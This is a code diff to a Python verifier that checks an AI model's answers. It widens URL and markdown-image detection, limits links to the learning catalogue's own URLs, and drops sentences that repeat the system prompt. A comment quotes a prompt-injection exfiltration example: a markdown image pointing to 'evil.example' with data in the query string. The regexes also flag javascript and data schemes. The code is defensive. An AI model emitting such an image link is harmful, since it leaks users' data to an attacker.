@@ -16,7 +16,15 @@ from typing import Any
 from domain.org import Org
 
 NUMBER = re.compile(r"(?<![\w.])(\d+(?:\.\d+)?)\s*(%?)")
-URL = re.compile(r"(?:!\[[^\]]*\]\()?(?:https?://|www\.)[^\s)]+\)?", re.I)
+# Anything a client would render or follow: markdown images and links, autolinks, URLs with
+# any scheme or none ("//host/x.png"), "www." hosts, and script-like schemes.
+URL = re.compile(
+    r"!?\[[^\]]*\]\([^)\s]*\)?|<[a-z][a-z0-9+.-]*:[^>\s]*>|"
+    r"(?:\b[a-z][a-z0-9+.-]*:)?//[^\s)<>\]]+|\bwww\.[^\s)<>\]]+|"
+    r"\b(?:javascript|data|vbscript):[^\s)]*",
+    re.I,
+)
+TARGET = re.compile(r"\]\(([^)\s]*)|<([^>]*)>")
 SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
 
 
@@ -85,16 +93,20 @@ def unsupported_claims(
     strings: set[str],
     numbers: set[float],
     allowed_numbers: Iterable[float] = (),
+    allowed_links: frozenset[str] = frozenset(),
 ) -> list[str]:
     problems = []
     lowered = sentence.casefold()
     corpus = " | ".join(strings)
-    # Links and images must come from the tools: a markdown image is how a prompt
-    # injection smuggles data out ("![x](https://evil.example/?d=...)").
-    for url in URL.findall(lowered):
-        bare = url.removeprefix("![").split("](")[-1].rstrip(")")
-        if bare not in corpus:
-            problems.append(url)
+    # Links and images come only from the allowlist (the learning catalogue's own URLs):
+    # a markdown image is how a prompt injection smuggles data out
+    # ("![x](https://evil.example/?d=...)"), and a document's text is not a source of links.
+    for match in URL.finditer(lowered):
+        found = match.group(0)
+        target = TARGET.search(found)
+        bare = (target.group(1) or target.group(2)) if target else found
+        if not bare or not any(bare.rstrip("/.").startswith(a) for a in allowed_links):
+            problems.append(found)
     remaining = URL.sub(" ", lowered)
     pattern, written = _entity_pattern(org)
     for match in pattern.finditer(remaining):
@@ -109,6 +121,11 @@ def unsupported_claims(
     return problems
 
 
+def catalogue_links(org: Org) -> list[str]:
+    """The learning catalogue's URLs: the links an answer may give."""
+    return [r.url for r in org.resources.values() if r.url]
+
+
 def _shingles(text: str, size: int = 6) -> set[str]:
     words = re.findall(r"[a-z0-9]+", text.casefold())
     return {" ".join(words[i : i + size]) for i in range(len(words) - size + 1)}
@@ -121,9 +138,16 @@ def verify(
     allowed_numbers: Iterable[float] = (),
     min_kept: float = 0.5,
     secret: str = "",
+    allowed_links: Iterable[str] | None = None,
 ) -> Verdict:
     """`secret`: text that must not be repeated (the system prompt): a sentence sharing six
-    consecutive words with it is removed."""
+    consecutive words with it is removed. `allowed_links`: the only URLs (or prefixes) an
+    answer may carry; by default the learning catalogue's own."""
+    links = frozenset(
+        u.lower().rstrip("/.")
+        for u in (catalogue_links(org) if allowed_links is None else allowed_links)
+        if u
+    )
     strings: set[str] = set()
     numbers: set[float] = set()
     for data in tool_data:
@@ -139,7 +163,7 @@ def verify(
             repeated = True  # small models repeat themselves; say each thing once
             continue
         seen.add(sentence.strip())
-        problems = unsupported_claims(sentence, org, strings, numbers, allowed_numbers)
+        problems = unsupported_claims(sentence, org, strings, numbers, allowed_numbers, links)
         if secret_shingles & _shingles(sentence):
             problems.append("system prompt")
         (dropped if problems else kept).append((sentence, problems))
